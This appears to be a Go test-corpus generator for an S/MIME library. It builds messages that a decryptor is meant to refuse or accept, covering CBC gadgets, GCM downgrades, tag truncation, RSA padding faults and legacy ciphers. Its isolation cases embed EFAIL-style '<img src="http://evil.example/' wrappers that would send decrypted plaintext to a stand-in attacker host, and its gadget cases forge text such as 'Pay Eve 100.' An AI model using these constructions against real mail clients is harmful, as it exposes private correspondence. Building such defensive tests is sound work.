package catalogue

import (
	"bytes"
	"crypto"
	"crypto/cipher"
	"crypto/des"
	"crypto/rsa"
	"crypto/subtle"
	"crypto/x509"
	"slices"
	"strings"

	"github.com/postseal/postseal/internal/cipherstream"
	"github.com/postseal/postseal/internal/forge"
	"github.com/postseal/postseal/internal/kdf"
	"github.com/postseal/postseal/internal/oid"
	"github.com/postseal/postseal/smime"
)

// isolation: what was encrypted never gets together with what was not.
func (m *Maker) isolation() {
	sealed := m.SealedMail(m.Envelope(m.SealedPart(), nil))
	m.authentic("c01-twin-sealed", "signed and encrypted with AES-CBC", sealed, m.part)
	part := strings.TrimPrefix(sealed, m.fields)
	for name, kind := range map[string]string{"mixed": "mixed", "alternative": "alternative", "related": "related; type=\"text/html\"", "signed-look": "signed; protocol=\"application/pgp-signature\""} {
		m.open("c01-"+name, "a part on each side draws the plaintext out", "c01-twin-sealed",
			m.fields+"Content-Type: multipart/"+kind+"; boundary=outer\r\n\r\n"+
				"--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"+
				"--outer\r\n"+part+"--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n")
	}
	m.open("c01-attached", "the encrypted message is attached to another", "c01-twin-sealed",
		m.fields+"Content-Type: message/rfc822\r\n\r\n"+sealed)
	m.open("c01-html-around", "an open quote inside the encryption is not closed outside of it", "c01-twin-sealed",
		m.SealedMail(m.Envelope("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n", nil)))
}

// gadgets: whoever knows one block of plaintext writes others under AES-CBC.
func (m *Maker) gadgets() {
	const chosen = "\r\nPay Eve 100.\r\n"
	gadget := func(content string) func(*forge.Enveloped) {
		return func(e *forge.Enveloped) {
			x := make([]byte, 16)
			subtle.XORBytes(x, []byte(IV), []byte(content[:16]))
			subtle.XORBytes(x, x, []byte(chosen))
			e.Cipher = forge.AESCBC([]byte(Key), x) // the first block reads as chosen
		}
	}
	const twin = "c01-twin-sealed"
	if len(m.part) < len(chosen) {
		m.lacks("a content of at least one block")
		m.forAll()
		return
	}
	m.open("c02-gadget", "the first block is the attacker's, the rest is left", twin, m.SealedMail(m.Envelope(m.part, gadget(m.part))))
	signed := m.SealedPart()
	m.open("c02-gadget-over-signature", "the first block, which said that the rest is signed, is the attacker's", twin, m.SealedMail(m.Envelope(signed, gadget(signed))))
	m.refused("c02-gadget-inside", "a block within the signature inside is the attacker's", twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
		e.Text[400] ^= 1
	})))
	m.refused("c02-blocks-swapped", "two blocks have changed places", twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
		a, b := bytes.Clone(e.Text[320:336]), bytes.Clone(e.Text[480:496])
		copy(e.Text[320:], b)
		copy(e.Text[480:], a)
	})))
	m.refused("c02-cut", "the last block is cut off", twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
		e.Text = e.Text[:len(e.Text)-16]
	})))
}

// downgrades: what was authenticated encryption is sent as one that is not.
func (m *Maker) downgrades() {
	key, nonce := []byte(Key), []byte(Nonce)
	signed := m.SealedPart()
	const twin = "c03-twin-gcm"
	m.authentic(twin, "signed and encrypted with AES-GCM", m.AuthSealedMail(m.AuthEnvelope(signed, nil)), m.part)
	text, tag := forge.GCM(key, nonce, []byte(signed), nil)
	m.refused("c03-as-cbc", "the ciphertext of AES-GCM as one of AES-CBC", twin, "decrypt.failed", m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
		e.Text = text[:len(text)/16*16]
	})))
	// The counter blocks and what they encrypt to are known, so that a block of the
	// attacker's deciphers to a counter block, and the initial vector makes of it what
	// he likes.
	m.open("c03-chosen", "one block of the key stream of AES-GCM as a message in AES-CBC", twin, m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
		counter := append(bytes.Clone(nonce), 0, 0, 0, 2)
		e.Text = make([]byte, 16)
		subtle.XORBytes(e.Text, text[:16], []byte(signed[:16]))
		iv := forge.Padded([]byte("\r\nPay Eve 100"), 16)
		subtle.XORBytes(iv, iv, counter)
		e.Cipher = forge.AESCBC(key, iv)
	})))
	m.refused("c03-gcm-in-enveloped", "AES-GCM in EnvelopedData, the tag behind the ciphertext", twin, "decrypt.unsupported", m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
		e.Cipher, e.Text = forge.AESGCM(key, nonce, 16), slices.Concat(text, tag)
	})))
	inner := forge.AESGCM(key, nonce, 16)
	derived, err := kdf.ContentKey(key, inner)
	must(err)
	bound := func(e *forge.Enveloped) {
		e.Cipher = forge.Algorithm(oid.CEKHKDFSHA256, inner)
		e.Text, e.MAC = forge.GCM(derived, nonce, []byte(signed), nil)
	}
	m.authentic("c03-twin-derived", "the key is bound to the cipher", m.AuthSealedMail(m.AuthEnvelope("", bound)), m.part)
	m.refused("c03-derived-as-is", "the key was bound to the cipher, and is used without that", "c03-twin-derived", "decrypt.failed", m.AuthSealedMail(m.AuthEnvelope("", func(e *forge.Enveloped) {
		bound(e)
		e.Cipher = inner
	})))
	m.refused("c03-derived-to-cbc", "the key was bound to AES-GCM, and AES-CBC is announced", "c03-twin-derived", "decrypt.failed", m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
		bound(e)
		e.MAC, e.Text = nil, e.Text[:len(e.Text)/16*16]
		e.Cipher = forge.Algorithm(oid.CEKHKDFSHA256, forge.AESCBC(key, []byte(IV)))
	})))
}

// tags: all of the tag, and of the length that the message says.
func (m *Maker) tags() {
	key, nonce := []byte(Key), []byte(Nonce)
	signed := m.SealedPart()
	const twin = "c03-twin-gcm"
	by := func(change func(*forge.Enveloped)) string {
		return m.AuthSealedMail(m.AuthEnvelope(signed, change))
	}
	short := func(n int) func(*forge.Enveloped) {
		return func(e *forge.Enveloped) { e.Cipher, e.MAC = forge.AESGCM(key, nonce, n), e.MAC[:n] }
	}
	m.refused("c04-tag-1", "a tag of one octet", twin, "decrypt.unsupported", by(short(1)))
	m.refused("c04-tag-4", "a tag of four octets", twin, "decrypt.unsupported", by(short(4)))
	m.refused("c04-tag-12", "a tag of twelve octets", twin, "decrypt.weak_cipher", by(short(12)))
	m.refused("c04-mac-shorter", "sixteen octets announced, twelve sent", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.MAC = e.MAC[:12] }))
	m.refused("c04-mac-longer", "a tag and an octet more", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.MAC = append(e.MAC, 0) }))
	m.refused("c04-mac-empty", "an empty tag", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.MAC = []byte{} }))
	m.refused("c04-mac-absent", "no tag", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.MAC = nil }))
	m.refused("c04-length-absent", "no length announced, which means twelve, and sixteen octets sent", twin, "decrypt.weak_cipher", by(func(e *forge.Enveloped) {
		e.Cipher = forge.Algorithm(oid.AES256GCM, forge.Sequence(forge.Octets(nonce)))
	}))
	m.refused("c04-cbc", "AES-CBC in AuthEnvelopedData", twin, "decrypt.unsupported", m.AuthSealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
		e.Authenticated, e.MAC = true, make([]byte, 16)
	})))
	m.refused("c06-tag", "one bit of the tag is another", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.MAC[15] ^= 1 }))
	m.refused("c06-text", "one bit of the ciphertext is another", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.Text[900] ^= 1 }))
	m.refused("c06-attributes", "an attribute added to what the tag protects", twin, "decrypt.failed", by(func(e *forge.Enveloped) {
		e.Attributes = forge.Tagged(1, forge.Attribute(oid.SigningTime, []byte("\x17\x0d260601120000Z")))
	}))
	for n, name := range map[int]string{0: "empty", 1: "of-1", 13: "of-13", 65: "of-65"} {
		m.refused("c05-nonce-"+name, "a nonce of another length than twelve", twin, "decrypt.unsupported", by(func(e *forge.Enveloped) {
			e.Cipher = forge.AESGCM(key, make([]byte, n), 16)
		}))
	}
	m.refused("c05-null", "NULL as parameters of AES-GCM", twin, "decrypt.unsupported", by(func(e *forge.Enveloped) { e.Cipher = forge.Algorithm(oid.AES256GCM, forge.Null()) }))
	m.refused("c05-absent", "AES-GCM without parameters", twin, "decrypt.unsupported", by(func(e *forge.Enveloped) { e.Cipher = forge.Algorithm(oid.AES256GCM, nil) }))
	m.refused("c05-octets", "the nonce alone as parameters of AES-GCM", twin, "decrypt.unsupported", by(func(e *forge.Enveloped) { e.Cipher = forge.Algorithm(oid.AES256GCM, forge.Octets(nonce)) }))
}

// keyTransport: whatever is wrong with the encrypted key, the content says so, in its one way.
func (m *Maker) keyTransport() {
	bob, key := m.people.Bob(), []byte(Key)
	pub := bob.Certificate().PublicKey.(*rsa.PublicKey)
	signed := m.SealedPart()
	by := func(algorithm, encryptedKey []byte) string {
		return m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
			e.Recipients = [][]byte{forge.KeyTransport(bob.Certificate(), algorithm, encryptedKey)}
		}))
	}
	block := func(change func([]byte)) []byte {
		b := forge.EncryptionBlock(pub.Size(), key)
		change(b)
		return forge.RSAEncrypted(pub, b)
	}
	v15 := forge.Algorithm(oid.RSA, forge.Null())
	for _, c := range []struct {
		name, note string
		encrypted  []byte
	}{
		{"first-octet", "the padding does not begin with zero", block(func(b []byte) { b[0] = 1 })},
		{"block-type", "the block is one for signatures", block(func(b []byte) { b[1] = 1 })},
		{"early-zero", "the padding is shorter than eight octets", block(func(b []byte) { b[5] = 0 })},
		{"no-zero", "nothing ends the padding", block(func(b []byte) { b[len(b)-33] = 1 })},
		{"key-short", "the key is one octet too short", forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), key[1:]))},
		{"key-long", "the key is one octet too long", forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), append(slices.Clip(key), 'x')))},
		{"key-of-aes128", "the key is one for AES-128", forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), key[:16]))},
		{"key-empty", "the key is empty", forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), nil))},
		{"other-key", "the key is another", forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), make([]byte, 32)))},
		{"short", "the encrypted key is one octet too short", make([]byte, pub.Size()-1)},
		{"long", "the encrypted key is one octet too long", append([]byte{0}, block(func([]byte) {})...)},
		{"empty", "the encrypted key is empty", nil},
		{"modulus", "the encrypted key is the modulus", pub.N.Bytes()},
		{"zero", "the encrypted key is zero", make([]byte, pub.Size())},
	} {
		m.refused("c07-"+c.name, c.note, "c01-twin-sealed", "decrypt.failed", by(v15, c.encrypted))
	}

	oaep := func(hash, mgf oid.OID, label []byte) []byte {
		p := forge.Sequence(forge.Tagged(0, forge.Algorithm(hash, forge.Null())), forge.Tagged(1, forge.Algorithm(oid.MGF1, forge.Algorithm(mgf, forge.Null()))))
		if label != nil {
			p = forge.Sequence(forge.Content(p), forge.Tagged(2, forge.Algorithm(oid.PSpecified, forge.Octets(label))))
		}
		return forge.Algorithm(oid.RSAOAEP, p)
	}
	padded := func(h, mgf crypto.Hash, label string, change func([]byte)) []byte {
		return forge.RSAEncrypted(pub, forge.OAEPBlock(pub.Size(), h, mgf, []byte(label), key, change))
	}
	sha256 := oaep(oid.SHA256, oid.SHA256, nil)
	const twin = "c09-twin-sha256"
	m.authentic(twin, "OAEP with SHA-256", by(sha256, padded(crypto.SHA256, crypto.SHA256, "", nil)), m.part)
	m.authentic("c09-twin-mgf-sha1", "OAEP with SHA-256 and a mask by SHA-1", by(oaep(oid.SHA256, oid.SHA1, nil), padded(crypto.SHA256, crypto.SHA1, "", nil)), m.part)
	m.authentic("c09-twin-label", "OAEP with a label", by(oaep(oid.SHA256, oid.SHA256, []byte("mail")), padded(crypto.SHA256, crypto.SHA256, "mail", nil)), m.part)
	m.authentic("c09-twin-default", "OAEP with the parameters left to their defaults", by(forge.Algorithm(oid.RSAOAEP, forge.Sequence()), padded(crypto.SHA1, crypto.SHA1, "", nil)), m.part)
	for _, c := range []struct {
		name, note, code string
		algorithm, key   []byte
	}{
		{"first-octet", "the block does not begin with zero", "decrypt.failed", sha256, func() []byte {
			b := forge.OAEPBlock(pub.Size(), crypto.SHA256, crypto.SHA256, nil, key, nil)
			b[0] = 1
			return forge.RSAEncrypted(pub, b)
		}()},
		{"label", "another label", "decrypt.failed", sha256, padded(crypto.SHA256, crypto.SHA256, "x", nil)},
		{"label-hash", "one bit of the label's digest is another", "decrypt.failed", sha256, padded(crypto.SHA256, crypto.SHA256, "", func(db []byte) { db[0] ^= 1 })},
		{"padding", "an octet of the padding is not zero", "decrypt.failed", sha256, padded(crypto.SHA256, crypto.SHA256, "", func(db []byte) { db[40] = 2 })},
		{"no-one", "nothing ends the padding", "decrypt.failed", sha256, padded(crypto.SHA256, crypto.SHA256, "", func(db []byte) { db[len(db)-33] = 0 })},
		{"hash", "another hash function than announced", "decrypt.failed", sha256, padded(crypto.SHA1, crypto.SHA256, "", nil)},
		{"mgf", "another mask than announced", "decrypt.failed", sha256, padded(crypto.SHA256, crypto.SHA1, "", nil)},
		{"v15", "PKCS #1 v1.5 where OAEP is announced", "decrypt.failed", sha256, forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), key))},
		{"v15-malformed", "PKCS #1 v1.5 behind OAEP parameters that are none", "decrypt.unsupported", forge.Algorithm(oid.RSAOAEP, forge.Octets(nil)), forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), key))},
		{"oaep-as-v15", "OAEP where PKCS #1 v1.5 is announced", "decrypt.failed", v15, padded(crypto.SHA256, crypto.SHA256, "", nil)},
		{"md5", "OAEP with MD5", "decrypt.unsupported", oaep(oid.MD5, oid.MD5, nil), padded(crypto.MD5, crypto.MD5, "", nil)},
		{"mgf-other", "a mask function that nobody knows", "decrypt.unsupported", forge.Algorithm(oid.RSAOAEP, forge.Sequence(forge.Tagged(1, forge.Algorithm("\x2a\x03\x04", nil)))), padded(crypto.SHA1, crypto.SHA1, "", nil)},
	} {
		m.refused("c09-"+c.name, c.note, twin, c.code, by(c.algorithm, c.key))
	}
}

// recipients: the first one that the reader's key belongs to decides, whatever is beside it.
func (m *Maker) recipients() {
	bob, eve := m.people.Bob(), m.people.Eve()
	good, bad := Transport(bob, []byte(Key)), Transport(bob, make([]byte, 32))
	theirs := Transport(eve, make([]byte, 32))
	unknown := forge.Tagged(9, forge.Null())
	signed := m.SealedPart()
	by := func(recipients ...[]byte) string {
		return m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Recipients = recipients }))
	}
	const twin = "c08-twin-other-first"
	m.authentic(twin, "somebody else's first", by(theirs, good), m.part)
	m.authentic("c08-twin-other-last", "somebody else's last", by(good, theirs), m.part)
	m.authentic("c08-twin-unknown-first", "a kind of recipient that nobody knows", by(unknown, good), m.part)
	m.authentic("c08-twin-bad-last", "Bob's twice, the right one first", by(good, bad), m.part)
	m.refused("c08-bad-first", "Bob's twice, the right one last", twin, "decrypt.failed", by(bad, good))
	m.refused("c08-bad-only", "Bob's with another key", twin, "decrypt.failed", by(theirs, bad))
	m.refused("c08-nobody", "only somebody else's", twin, "decrypt.no_key", by(theirs))
	m.refused("c08-none", "no recipient at all", twin, "decrypt.no_key", by())
}

// padding: nothing tells how the padding of AES-CBC is wrong.
func (m *Maker) padding() {
	signed := m.SealedPart()
	key, iv := []byte(Key), []byte(IV)
	with := func(plain []byte) string {
		return m.SealedMail(m.Envelope("", func(e *forge.Enveloped) { e.Text = forge.CBC(forge.AES(key), iv, plain) }))
	}
	end := func(n int, last ...byte) []byte {
		plain := []byte(signed)
		for len(plain)%16 != 16-n {
			plain = append(plain, ' ')
		}
		return append(plain, last...)
	}
	const twin = "c10-twin-whole-block"
	m.authentic(twin, "a whole block of padding", with(end(16, bytes.Repeat([]byte{16}, 16)...)), m.part)
	for _, c := range []struct {
		name, note string
		plain      []byte
	}{
		{"zero", "a padding of zero octets", end(1, 0)},
		{"long", "a padding longer than a block", end(1, 17)},
		{"huge", "a padding of 255 octets", end(1, 255)},
		{"uneven", "the octets of the padding differ", end(3, 3, 2, 3)},
		{"first-other", "the first octet of the padding is another", end(16, append([]byte{15}, bytes.Repeat([]byte{16}, 15)...)...)},
		{"none", "no padding", end(16)},
	} {
		m.refused("c10-"+c.name, c.note, twin, "decrypt.failed", with(c.plain))
	}
	text := func(name, note string, change func([]byte) []byte) {
		m.refused("c10-"+name, note, twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Text = change(e.Text) })))
	}
	text("cut", "the last octet is missing", func(b []byte) []byte { return b[:len(b)-1] })
	text("more", "an octet more", func(b []byte) []byte { return append(b, 0) })
	text("empty", "an empty ciphertext", func(b []byte) []byte { return b[:0] })
	text("one", "one octet of ciphertext", func(b []byte) []byte { return b[:1] })
	m.refused("c10-absent", "no ciphertext", twin, "decrypt.unsupported", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Text = nil })))
}

// oldCiphers are not read unless somebody asks for it.
func (m *Maker) oldCiphers() {
	signed := m.SealedPart()
	for _, c := range OldCiphers() {
		m.refused("b06-"+c.Name, c.Note, "c01-twin-sealed", "decrypt.weak_cipher", m.SealedMail(c.Envelope(m, signed)))
	}
}

// An OldCipher is one that is read only where the caller allows it.
type OldCipher struct {
	Name, Note string
	algorithm  []byte
	key        []byte
	block      cipher.Block
}

// Envelope returns content in the cipher for Bob.
func (c OldCipher) Envelope(m *Maker, content string) []byte {
	return m.Envelope("", func(e *forge.Enveloped) {
		e.Recipients = [][]byte{Transport(m.people.Bob(), c.key)}
		e.Cipher = c.algorithm
		e.Text = forge.CBC(c.block, []byte(IV)[:8], forge.Padded([]byte(content), 8))
	})
}

// OldCiphers returns all of them.
func OldCiphers() []OldCipher {
	block := func(b cipher.Block, err error) cipher.Block {
		must(err)
		return b
	}
	iv := forge.Octets([]byte(IV)[:8])
	rc2 := func(version, bits int, name string) OldCipher {
		key := []byte(Key)[:bits/8]
		return OldCipher{name, "RC2 with a key of " + name[4:] + " bits", forge.Algorithm(oid.RC2CBC, forge.Sequence(forge.Integer(int64(version)), iv)),
			key, block(cipherstream.NewRC2(key, bits))}
	}
	triple, single := []byte(Key)[:24], []byte(Key)[:8]
	return []OldCipher{
		{"3des", "Triple-DES", forge.Algorithm(oid.TripleDESCBC, iv), triple, block(des.NewTripleDESCipher(triple))},
		{"des", "DES", forge.Algorithm(oid.DESCBC, iv), single, block(des.NewCipher(single))},
		rc2(160, 40, "rc2-40"), rc2(120, 64, "rc2-64"), rc2(58, 128, "rc2-128"),
	}
}

// readers: who can read a message, and who can see that (C20, C21, C22, C23).
func (m *Maker) readers() {
	signed := m.SealedPart()
	bob, eve := Transport(m.people.Bob(), []byte(Key)), Transport(m.people.Eve(), []byte(Key))
	to := func(recipients ...[]byte) string {
		return m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Recipients = recipients }))
	}
	m.refused("c20-forgotten", "nobody thought of Bob, to whom the message is addressed", "c20-twin", "decrypt.no_key", to(eve))
	m.authentic("c20-twin", "he can read it, and Eve too", to(bob, eve), m.part)
	m.authentic("c21-bcc", "a reader who was in Bcc can be seen by every other", to(bob, eve), m.part)
	m.authentic("c21-twin", "a copy of his own shows nobody", to(bob), m.part)
	padded := strings.TrimSuffix(signed, "\r\n") + "\r\n" + strings.Repeat("\r\n", 1000)
	m.authentic("c22-twin-padded", "line ends behind the signature hide how long it is", m.SealedMail(m.Envelope(padded, nil)), m.part)
	m.authentic("c22-bare", "the length of the text can be told from that of the message", to(bob), m.part)
	altered := OpaqueFields + Base64Lines(m.Forged(m.part, func(s *forge.Signed) { s.Content = []byte(OtherPart) }).DER())
	m.refused("c23-late", "only behind the content it turns out that nobody signed it: none of it may stay", "c20-twin", "digest.mismatch",
		m.SealedMail(m.Envelope(altered, nil)))
	m.authentic("i06-zeros", "a random source that gave zeros: nobody who reads can tell", m.AuthSealedMail(m.AuthEnvelope("", func(e *forge.Enveloped) {
		key, nonce := make([]byte, 32), make([]byte, 12)
		e.Recipients = [][]byte{Transport(m.people.Bob(), key)}
		e.Cipher = forge.AESGCM(key, nonce, 16)
		e.Text, e.MAC = forge.GCM(key, nonce, []byte(signed), nil)
	})), m.part)
}

// replies: a reply gives away what it answers (F08).
func (m *Maker) replies() {
	reply := func(protect string) (string, string) {
		c := smime.Composer{Opaque: true, Recipients: []*x509.Certificate{m.people.Bob().Certificate()}, ProtectHeaders: protect}
		return m.composed(c, "Content-Type: text/plain\r\n\r\nThe merger? Yes.\r\n")
	}
	ours, content := reply("baseline")
	f := m.authentic("f08-twin", "a reply that hides the subject it answers", ours, content)
	f.Notes = []string{"Subject header.obscured"}
	m.random()
	ours, content = reply("no-confidentiality")
	m.authentic("f08-leak", "a reply that shows the subject it answers, which was hidden", ours, content)
	m.random()
}
